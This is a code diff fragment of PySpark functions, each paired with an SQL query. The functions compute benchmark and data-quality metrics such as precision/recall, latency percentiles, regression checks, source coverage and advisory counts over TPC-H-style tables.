+@query(f"SELECT count(DISTINCT file || '|' || line || '|' || {_FP.format(path='file')}) AS incidents FROM ({_HITS})")
+def graph_incidents(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return lifecycle.graph(found(spark, sf_dir), "repo").agg(F.countDistinct("incident_id").alias("incidents"))
+
+
+@query("""SELECT tp, fp, fn, tn, CAST(round(10000.0 * tp / (tp + fp)) AS BIGINT) AS precision_bp, CAST(round(10000.0 * tp / (tp + fn)) AS BIGINT) AS recall_bp FROM (SELECT count(*) FILTER (quality = 1 AND toxic = 1) AS tp,
+count(*) FILTER (quality = 0 AND toxic = 1) AS fp, count(*) FILTER (quality = 1 AND toxic = 0) AS fn, count(*) FILTER (quality = 0 AND toxic = 0) AS tn FROM labels)""")
+def benchmark_prf(spark: SparkSession, sf_dir: str) -> DataFrame:
+    c = table(spark, sf_dir, "labels").select((F.col("quality") == 1).alias("expected"), (F.col("toxic") == 1).alias("observed"))
+    s = quality.scores(quality.confusion(c))
+    return s.select("tp", "fp", "fn", "tn", F.round(F.col("precision") * 10000).cast("long").alias("precision_bp"), F.round(F.col("recall") * 10000).cast("long").alias("recall_bp"))
+
+
+@query("""SELECT event_type, min(value) FILTER (k >= ceil(0.5 * n)) AS p50, min(value) FILTER (k >= ceil(0.95 * n)) AS p95 FROM (SELECT event_type, value, row_number() OVER (PARTITION BY event_type ORDER BY value) AS k, count(*) OVER (PARTITION BY event_type) AS n FROM events) GROUP BY event_type""")
+def latency_percentiles(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return quality.percentiles(table(spark, sf_dir, "events"), "value", (50, 95), ["event_type"])
+
+
+@query("""SELECT count(*) FILTER (quality = 0 AND toxic = 1 AND doc_id % 2 = 0) AS new_fp, count(*) FILTER (quality = 1 AND toxic = 0 AND doc_id % 2 = 0) AS new_fn, count(*) FILTER (quality <> toxic AND doc_id % 2 = 0) = 0 AS passed FROM labels""")
+def benchmark_regression(spark: SparkSession, sf_dir: str) -> DataFrame:
+    c = table(spark, sf_dir, "labels").select(F.col("doc_id").alias("case_id"), (F.col("quality") == 1).alias("expected"), (F.col("toxic") == 1).alias("observed"))
+    return quality.regression(c, c.where("case_id % 2 = 1"))
+
+
+@query("""SELECT event_type AS tool, count(DISTINCT user_id) FILTER (user_id % 2 = 0) AS both, count(DISTINCT user_id) FILTER (user_id % 2 <> 0) AS tool_only,
+(SELECT count(DISTINCT user_id) FROM events WHERE user_id % 2 = 0) - count(DISTINCT user_id) FILTER (user_id % 2 = 0) AS internal_only FROM events GROUP BY event_type""")
+def external_comparison(spark: SparkSession, sf_dir: str) -> DataFrame:
+    e = table(spark, sf_dir, "events")
+    return quality.compare_external(e.where("user_id % 2 = 0").select("user_id"), e.select(F.col("event_type").alias("tool"), F.col("user_id").alias("id")))
+
+
+@query("SELECT source, count(*) AS records, CAST(round(1000000.0 * count(*) / (SELECT count(*) FROM documents)) AS BIGINT) AS share_ppm FROM documents GROUP BY source")
+def source_coverage(spark: SparkSession, sf_dir: str) -> DataFrame:
+    d = table(spark, sf_dir, "documents").groupBy("source").agg(F.count("*").alias("records"))
+    return quality.source_coverage(d).select("source", "records", F.round(F.col("share") * 1000000).cast("long").alias("share_ppm"))
+
+
+@query("SELECT o_orderstatus AS source, count(*) AS snapshots, max(o_orderpriority = '1-URGENT') AS active FROM orders GROUP BY o_orderstatus")
+def source_status(spark: SparkSession, sf_dir: str) -> DataFrame:
+    s = table(spark, sf_dir, "orders").select(F.col("o_orderstatus").alias("source"), F.col("o_orderkey").alias("snapshot_id"), F.when(F.col("o_orderpriority") == "1-URGENT", "active").otherwise("retired").alias("state"))
+    return quality.source_status(s).select("source", "snapshots", "active")
+
+
+@query(f"SELECT (SELECT count(*) FROM supplier) AS advisories, count(*) FILTER (s_suppkey % 10 = 9) AS withdrawn, count(DISTINCT s_suppkey % 17) AS unique_cves, count(*) AS packages, count(*) AS fixed_events FROM supplier")
+def quality_metrics(spark: SparkSession, sf_dir: str) -> DataFrame:
+    p = packages(spark, sf_dir)
+    return quality.advisory_metrics(p.select(F.col("advisory_id").alias("id"), "aliases", "withdrawn"), p).withColumn("fixed_events", F.col("fixed_events").cast("long"))
+
+
+@query("""SELECT 'advisories' AS metric, count(*) AS value, CAST(50 AS BIGINT) AS minimum, CASE WHEN count(*) >= 50 THEN 'passed' ELSE 'failed' END AS status FROM supplier UNION ALL SELECT 'epss', NULL, 1, 'not_evaluable'""")
+def quality_thresholds(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return quality.thresholds(quality_metrics(spark, sf_dir), {"advisories": 50, "epss": 1})
